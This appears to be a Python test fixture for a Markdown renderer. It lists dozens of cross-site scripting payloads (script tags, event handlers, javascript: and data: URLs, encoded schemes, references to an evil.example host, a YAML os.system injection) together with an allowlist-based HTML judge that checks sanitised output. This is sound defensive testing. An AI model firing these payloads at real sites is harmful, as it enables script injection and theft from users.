"""Markdown that tries to become script, and the judge of what came out."""

from html.parser import HTMLParser

from rendering.mathml import MATH_CLASSES

_HTML = r"""
<script>alert(1)</script>
<ScRiPt src=//evil.example/x.js></sCrIpT>
<img src=x onerror=alert(1)>
<img/src/onerror=alert(1)>
<svg onload=alert(1)>
<svg><script>alert(1)</script></svg>
<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>
<math><a xlink:href="javascript:alert(1)">x</a></math>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<iframe src=javascript:alert(1)>
<object data="data:text/html,<script>alert(1)</script>"></object>
<embed src=javascript:alert(1)>
<meta http-equiv=refresh content="0;url=//evil.example">
<base href=//evil.example/>
<link rel=stylesheet href=//evil.example/x.css>
<style>@import "//evil.example/x.css"</style>
<form action=//evil.example><button>x</button></form>
<input autofocus onfocus=alert(1)>
<details open ontoggle=alert(1)>x</details>
<a href=javascript:alert(1)>x</a>
<div style="background:url(//evil.example)">x</div>
<p onclick="alert(1)">x</p>
<template><script>alert(1)</script></template>
<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>
<!--><img src=x onerror=alert(1)>-->
<![CDATA[<img src=x onerror=alert(1)>]]>
<?php <img src=x onerror=alert(1)> ?>
<textarea><img title="</textarea><img src=x onerror=alert(1)>">
<b <script>alert(1)</script>
<table background="javascript:alert(1)"><td>x
<button type="button" class="chip" data-reply="x" onclick="alert(1)">x</button>
<div class="chips" id="log">x</div>
**<img src=x onerror=alert(1)>**
- <img src=x onerror=alert(1)>
> <svg/onload=alert(1)>
# <img src=x onerror=alert(1)>
`<img src=x onerror=alert(1)>`
""".strip().split("\n")

_LINKS = r"""
[x](javascript:alert(1))
[x](JaVaScRiPt:alert(1))
[x](<javascript:alert(1)>)
[x](<java script:alert(1)>)
[x](javascript&colon;alert(1))
[x](javascript&#58;alert(1))
[x](&#106;avascript:alert(1))
[x](&#x6A;&#x61;vascript:alert(1))
[x](java&Tab;script:alert(1))
[x](java&NewLine;script:alert(1))
[x](&#1;javascript:alert(1))
[x](%6aavascript:alert(1))
[x](javascript\:alert(1))
[x](vbscript:msgbox(1))
[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
[x](blob:https://a.b/c) [x](file:///etc/passwd) [x](//evil.example) [x](/admin) [x](\\evil.example)
[x](javascript:alert(1)#button) [x](data:text/html,x#button) [x](//e.x#button)
[x](http://a.b/"onmouseover="alert(1)) [x](<http://a.b/" onmouseover="alert(1)>)
[x](http://a.b "t\" onmouseover=\"alert(1)") [x](http://a.b '"><img src=x onerror=alert(1)>')
[x](http://javascript:alert(1)@a.b)
<javascript:alert(1)> <data:text/html,x> <JAVASCRIPT:alert(1)>
<http://a.b/"onclick=alert(1)> <a@b.c"onclick=alert(1)>
http://a.b/"onmouseover=alert(1) www.a.b/'onclick='alert(1) x@y.z"onclick=a
[x][y] javascript:alert(1)
[y]: javascript:alert(1) "title"
["><img src=x onerror=alert(1)>]()
[<script>alert(1)</script>]()
[a" onclick="alert(1)]() [&quot; onclick=&quot;alert(1)]()
[&lt;img src=x onerror=alert(1)&gt;]() [`<img src=x onerror=alert(1)>`]()
["><img src=x onerror=alert(1)>](https://a.b#button)
""".strip().split("\n")

_IMAGES = r"""
![x](javascript:alert(1)) ![x](data:image/svg+xml,<svg/onload=alert(1)>) ![x](data:image/png;base64,AA)
![" onerror="alert(1)](http://a.b/c.png)
!["><script>alert(1)</script>](http://a.b/c.png "\" onload=\"alert(1)")
![x](http://a.b/"onerror="alert(1)) ![x](//evil.example/x.png) ![x](/x.png)
[![" onerror=alert(1) x="](http://a.b/c.png)](javascript:alert(1))
![`<img src=x onerror=alert(1)>`](https://a.b/c.png)
""".strip().split("\n")

_MATH = r"""
$\href{javascript:alert(1)}{x}$ $\url{javascript:alert(1)}$
$\text{<img src=x onerror=alert(1)>}$ $$\text{</math><script>alert(1)</script>}$$
$\unknown{<img src=x onerror=alert(1)>$ $</math><img src=x onerror=alert(1)>$
\(\mathrm{"onclick=alert(1)}\) \[\operatorname{<svg onload=alert(1)>}\]
$\color{red" onclick="alert(1)}x$ $\color{#ff0000;background:url(//e.x)}x$ $\textcolor{blue}{x}$
$\class{chip}{x}$ $\style{background:url(//e.x)}{x}$ $\cssId{x}{y}$ $\htmlData{x=y}{z}$
$\begin{array}{|c|r" onclick="x|}1&2\end{array}$
$$\begin{align}a&=b\label{" onclick="alert(1)}\end{align}\eqref{" onclick="alert(1)}$$
$\text{\text{<b>}}\style$ $\begin{<img src=x onerror=alert(1)>}x\end{x}$
""".strip().split("\n")

_FENCES = [
    "```<img src=x onerror=alert(1)>\nx\n```",
    '```"onclick="alert(1)\nx\n```\nafter',
    '```python" onclick="alert(1)\n<script>alert(1)</script>\n```\nafter',
    "```html\n<img src=x onerror=alert(1)>\n</code></pre><script>alert(1)</script>\n```\nafter",
    "~~~js\n'</span><img src=x onerror=alert(1)>' // <script>\n~~~\nafter",
    "    <img src=x onerror=alert(1)>\n\nafter",
    "```buttons\n- caption: <img src=x onerror=alert(1)>\n- caption: '\" onclick=\"alert(1)'\n```\nafter",
    "```buttons\n- caption: x\n  href: javascript:alert(1)\n```\nafter",
    "```buttons\n- caption: x\n  href: 'https://a.b/\" onclick=\"alert(1)'\n```\nafter",
    "```button\n!!python/object/apply:os.system ['true']\n```\nafter",
    "```buttons\n- &a {caption: x}\n- *a\n```\nafter",
    "```carousel\n- image: javascript:alert(1)\n  title: <script>\n```\nafter",
    "```form\nfields: {name: '\" onfocus=\"alert(1)'}\n```\nafter",
    "<details>\n\n<script>\n\nalert(1)\n\n</script>\n\n</details>",
    "| <img src=x onerror=alert(1)> | b |\n|---|--:|\n| <script>alert(1)</script> | `<svg onload=x>` |",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62; &#x3C;svg onload=alert(1)&#x3E;",
    "\ufdd0<\ufdd0script>alert(1)</\ufdd0script> <\x00script>alert(1)</script>",
    "- [x] <img src=x onerror=alert(1)>\n- [ ] [y](javascript:alert(1))",
    '<p data-sourcepos="1:1-1:1"><a href="">x</a></p> <span data-math-style="inline">x</span>',
]

PAYLOADS = [*_HTML, *_LINKS, *_IMAGES, *_MATH, *_FENCES]

_REL = {"noopener noreferrer", "noopener noreferrer nofollow"}
_CLASSES = {"btn", "chip", "chips", "tbl", "code", "task", "k", "str", "num", "com", "n"} | MATH_CLASSES
_PLAIN = {
    "a",
    "b",
    "blockquote",
    "br",
    "button",
    "code",
    "del",
    "div",
    "em",
    "figcaption",
    "figure",
    "h3",
    "h4",
    "hr",
    "i",
    "li",
    "ol",
    "p",
    "pre",
    "s",
    "span",
    "strong",
    "table",
    "tbody",
    "td",
    "th",
    "thead",
    "tr",
    "u",
    "ul",
}
_MATHML = {
    "math",
    "menclose",
    "mfrac",
    "mi",
    "mmultiscripts",
    "mn",
    "mo",
    "mover",
    "mpadded",
    "mphantom",
    "mprescripts",
    "mroot",
    "mrow",
    "mspace",
    "msqrt",
    "msub",
    "msubsup",
    "msup",
    "mtable",
    "mtd",
    "mtext",
    "mtr",
    "munder",
    "munderover",
}
_NUMBERS = {"linethickness", "lspace", "rspace", "minsize", "maxsize", "width", "height", "depth", "voffset"}
_WORDS = {
    "mathvariant",
    "notation",
    "display",
    "form",
    "stretchy",
    "symmetric",
    "fence",
    "separator",
    "largeop",
    "movablelimits",
    "accent",
    "accentunder",
    "displaystyle",
    "scriptlevel",
    "columnspan",
    "rowspan",
}


class Judge(HTMLParser):
    """Fails on every tag, attribute or value outside of the list."""

    def __init__(self, *, images: bool = False) -> None:
        super().__init__()
        self._images = images

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert tag in _PLAIN | _MATHML or (tag == "img" and self._images), tag
        assert len(dict(attrs)) == len(attrs)
        for name, value in attrs:
            assert self._allowed(tag, name, value or ""), (tag, name, value)

    def handle_comment(self, data: str) -> None:
        raise AssertionError(f"comment {data!r}")

    def handle_decl(self, decl: str) -> None:
        raise AssertionError(f"declaration {decl!r}")

    def handle_pi(self, data: str) -> None:
        raise AssertionError(f"instruction {data!r}")

    def unknown_decl(self, data: str) -> None:
        raise AssertionError(f"declaration {data!r}")

    @staticmethod
    def _allowed(tag: str, name: str, value: str) -> bool:
        if name == "class":
            return set(value.split()) <= _CLASSES
        if tag == "a":
            schemes = ("http://", "https://", "mailto:")
            return {
                "href": value.lower().startswith(schemes),
                "target": value == "_blank",
                "rel": value in _REL,
                "title": True,
            }.get(name, False)
        if tag == "button":
            return (name, value) in {("type", "button"), ("data-copy", "")} or name == "data-reply"
        if tag == "img":
            return {
                "src": value.lower().startswith(("http://", "https://")),
                "alt": True,
                "loading": value == "lazy",
                "referrerpolicy": value == "no-referrer",
            }.get(name, False)
        if tag in _MATHML:
            return (
                name in _WORDS | _NUMBERS
                and value.replace(".", "").replace("-", "").replace("%", "").isalnum()
            )
        return (tag, name) in {("pre", "tabindex"), ("div", "tabindex"), ("ol", "start")} and value.isdigit()


def judge(html: str, *, images: bool = False) -> None:
    """AssertionError when `html` holds anything that is not on the list."""
    reader = Judge(images=images)
    reader.feed(html)
    reader.close()
